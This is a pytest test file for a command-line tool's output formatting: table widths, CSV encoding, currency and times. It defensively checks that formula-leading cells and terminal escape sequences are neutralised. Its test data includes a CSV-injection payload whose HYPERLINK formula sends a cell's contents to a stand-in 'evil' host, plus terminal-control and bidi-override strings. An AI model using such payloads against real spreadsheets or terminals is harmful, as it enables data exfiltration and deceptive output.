"""What is printed: tables that fit, CSV that a spreadsheet does not run, texts that steer no terminal."""

import csv
import datetime
import io
import json
import unicodedata

import pytest
from hypothesis import given
from hypothesis import strategies as st

from switchgear.cli import output
from switchgear.cli.log import COLUMNS as LOG
from switchgear.cli.output import Column, Output
from switchgear.core.errors import UserError

ID = "01a2088ac0702d259910dbac00000001"
COLUMNS = (Column("ID", "id", "id"), Column("N", "n", "number"), Column("NAME", "name"), Column("AT", "at", "time", wide=True), Column("COST", "cost", "usd"))  # fmt: skip


def rows(**more):
    return [{"id": ID, "n": 1, "name": "x", "at": 1_795_715_419_000, "cost": 1_500, **more}]


@pytest.mark.parametrize(
    ("nano", "text"), [(0, "0.00"), (1_500, "0.0000015"), (10**9, "1.00"), (None, None), (-5 * 10**8, "-0.50")]
)
def test_an_amount_is_written_in_usd_without_rounding_it_away(nano, text):
    assert output.usd(nano) == text


def test_csv_has_iso_times_with_a_zone_numbers_and_nothing_for_null(capsys):
    Output("csv", datetime.UTC).rows({}, rows(name=None), COLUMNS)
    found = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert found == [{"id": ID, "n": "1", "name": "", "at": "2026-11-26T17:50:19+00:00", "cost_usd": "0.000001500"}]


# OWASP, "CSV Injection": cells must not begin with = + - @, tab or carriage return; full-width variants are read alike.
@pytest.mark.parametrize("cell", ['=HYPERLINK("http://evil/?"&A1,"x")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", " =1", "＝1+1", "\u202e=1"])  # fmt: skip
@pytest.mark.parametrize("write", ["rows", "one", "line"])
def test_no_cell_of_csv_is_a_formula(capsys, cell, write):
    out = Output("csv")
    if write == "rows":
        out.rows({}, rows(name=cell), COLUMNS)
    elif write == "one":
        out.one({"name": cell, "nested": {"tags": [cell]}, "=key": 1})
    else:
        out.line({"name": cell}, "")
    table = list(csv.reader(io.StringIO(capsys.readouterr().out, newline="")))
    for value in (value for line in table for value in line):
        assert value[:1] not in set("=+-@\t\r＝＋－＠"), value
    assert any(value.startswith("'") for value in table[1])


def test_numbers_stay_numbers_in_csv(capsys):
    Output("csv").rows({}, rows(n=-5, cost=-1_000_000_000), COLUMNS)
    line = capsys.readouterr().out.splitlines()[1].split(",")
    assert (line[1], line[4]) == ("-5", "-1.000000000")
    Output("csv").one({"a": -1, "b": -0.5, "c": None, "d": True, "e": [1, 2]})
    assert capsys.readouterr().out == "a,b,c,d,e\r\n-1,-0.5,,true,1;2\r\n"


def test_nested_answers_have_one_column_a_leaf(capsys):
    Output("csv").one({"a": {"b": 1, "c": {"d": "x"}}, "list": [{"e": 1}]})
    assert capsys.readouterr().out == 'a.b,a.c.d,list\r\n1,x,"[{""e"": 1}]"\r\n'


def test_moments_of_an_object_are_times_with_a_zone_in_csv(capsys):
    Output("csv", datetime.UTC).one({"expires_ms": 1_795_715_419_000, "key": {"revoked_ms": None}, "latency_ms": 5})
    assert capsys.readouterr().out == "expires,key.revoked,latency_ms\r\n2026-11-26T17:50:19+00:00,,5\r\n"


def test_money_of_an_object_is_a_decimal_of_usd_in_csv(capsys):
    Output("csv").one({"spent_nanousd": 1_500_000_000, "cost": {"total_nanousd": None}})
    assert capsys.readouterr().out == "spent_usd,cost.total_usd\r\n1.500000000,\r\n"


def test_a_document_without_a_csv_form_is_refused():
    with pytest.raises(UserError, match="no CSV"):
        Output("csv").no_csv("it is a document")


def test_lines_of_csv_have_one_head(capsys):
    out = Output("csv")
    out.line({"a": 1}, "")
    out.line({"a": 2}, "")
    assert capsys.readouterr().out == "a\r\n1\r\n2\r\n"


@given(st.text())
def test_no_text_steers_a_terminal(text):
    shown = output.cleaned(text)
    assert not {c for c in shown if unicodedata.category(c) in {"Cc", "Cf", "Cs", "Zl", "Zp"}}
    assert output.tidy({text: [text]}) is not None
    escaped = output.json_text({"x": text})
    assert not {c for c in escaped if unicodedata.category(c) in {"Cc", "Cf", "Cs"} and c != "\n"}
    assert json.loads(escaped) == {"x": text}


@pytest.mark.parametrize("kind", ["table", "wide", "csv", "json"])
def test_no_form_of_an_answer_steers_a_terminal(capsys, kind):
    evil = "a\x1b]0;x\x07\x9b31m\u202eb\x7f\u2066"
    out = Output(kind)
    out.rows({"rows": rows(name=evil)}, rows(name=evil), COLUMNS)
    out.one({"name": evil, evil: 1})
    out.line({"name": evil}, evil)
    output.say(evil)
    output.note(evil)
    seen = capsys.readouterr()
    assert not {c for c in seen.out + seen.err if unicodedata.category(c) in {"Cc", "Cf"}} - {"\n", "\r"}


def test_a_new_line_in_a_text_makes_no_new_line_of_output(capsys):
    Output("table").one({"name": "x"}, people=output.tidy({"name": "a\nstate  revoked"}))
    assert capsys.readouterr().out == "name  a state  revoked\n"


# tables


def record_row(model="anthropic/claude-sonnet-4-5-20250929"):
    return {
        "time": "2026-11-26T17:50:19.000Z", "id": ID, "key": "a-rather-long-key-name", "model": model, "provider": "anthropic",
        "status": 200, "outcome": "upstream_error", "in": 123_456, "out": 12_345, "cost_nanousd": 123_456_789, "latency_ms": 12_345,
        "team": "research", "user": None, "client": "claude-code", "attempts": 1, "estimated": False, "error": None,
    }  # fmt: skip


@pytest.mark.parametrize("width", [*range(60, 140, 7), 80, 100, 120, 200])
def test_a_table_fits_its_terminal_and_ids_stay_whole(capsys, monkeypatch, width):
    monkeypatch.setenv("COLUMNS", str(width))
    Output("table", datetime.UTC).rows({}, [record_row(), record_row("日本語のモデル" * 8)], LOG)
    lines = capsys.readouterr().out.splitlines()
    assert len(lines) == 3  # one line a record
    assert all(output.width_of(line) <= width for line in lines), lines
    assert all(ID in line.split() for line in lines[1:])


def test_columns_go_by_their_rank_and_texts_say_that_they_are_cut(capsys, monkeypatch):
    monkeypatch.setenv("COLUMNS", "80")
    Output("table", datetime.UTC).rows({}, [record_row()], LOG)
    head, line = capsys.readouterr().out.splitlines()
    assert head.split() == ["TIME", "ID", "MODEL", "STATUS", "COST"] and "…" in line and "0.123456789" in line
    monkeypatch.setenv("COLUMNS", "400")
    Output("table", datetime.UTC).rows({}, [record_row()], LOG)
    head, line = capsys.readouterr().out.splitlines()
    assert "OUTCOME" in head and "…" not in line and "TEAM" not in head


def test_wide_shows_every_column_whole_whatever_the_terminal(capsys, monkeypatch):
    monkeypatch.setenv("COLUMNS", "40")
    Output("wide", datetime.UTC).rows({}, [record_row()], LOG)
    head, line = capsys.readouterr().out.splitlines()
    assert all(column.title in head for column in LOG) and "…" not in line and ID in line
    assert "2026-11-26 17:50:19 +00:00" in line


def test_where_nobody_watches_nothing_is_cut(capsys, monkeypatch):
    monkeypatch.delenv("COLUMNS", raising=False)
    Output("table").rows({}, rows(name="x" * 500), COLUMNS)
    assert "x" * 500 in capsys.readouterr().out


def test_an_empty_table_is_a_sentence_for_people_and_only_a_head_for_programs(capsys):
    Output("table").rows({"rows": []}, [], COLUMNS, "nothing here")
    Output("csv").rows({"rows": []}, [], COLUMNS, "nothing here")
    Output("json").rows({"rows": []}, [], COLUMNS, "nothing here")
    assert capsys.readouterr().out == 'nothing here\nid,n,name,at,cost_usd\r\n{\n  "rows": []\n}\n'


@given(st.lists(st.integers(1, 60), min_size=6, max_size=6), st.integers(20, 200))
def test_fit_never_widens_and_never_drops_what_must_stay(natural, limit):
    columns = [Column("A", "a", "id"), Column("B", "b"), Column("C", "c", "number", 3), Column("D", "d", drop=2), Column("E", "e", drop=1), Column("F", "f", "usd")]  # fmt: skip
    kept = dict(output.fit(columns, natural, limit))
    assert {0, 1, 5} <= set(kept) and all(width <= natural[n] for n, width in kept.items())
    assert all(kept[n] == natural[n] for n in kept if columns[n].kind in {"id", "number", "usd"})
    assert dict(output.fit(columns, natural, None)) == dict(enumerate(natural))


@pytest.mark.parametrize(
    ("text", "width", "found"),
    [("src/a/b/client.py:12", 14, "…/client.py:12"), ("a.py:1", 14, "a.py:1"), ("目录/文件.py:1", 8, "…件.py:1")],
)
def test_a_path_is_cut_at_its_beginning(text, width, found):
    assert output.cut(text, width, at_end=False) == found and output.width_of(found) <= width


def test_paths_in_a_narrow_table_keep_their_ends(capsys, monkeypatch):
    monkeypatch.setenv("COLUMNS", "30")
    rows = [{"what": "a key", "where": f"a/very/long/way/to/the/file{n}.py:{n}"} for n in (1, 2)]
    output.Output("table").rows(rows, rows, (output.Column("WHAT", "what"), output.Column("WHERE", "where", "path")))
    _, first, second = capsys.readouterr().out.splitlines()
    assert first.endswith("file1.py:1") and second.endswith("file2.py:2") and len(first) <= 30
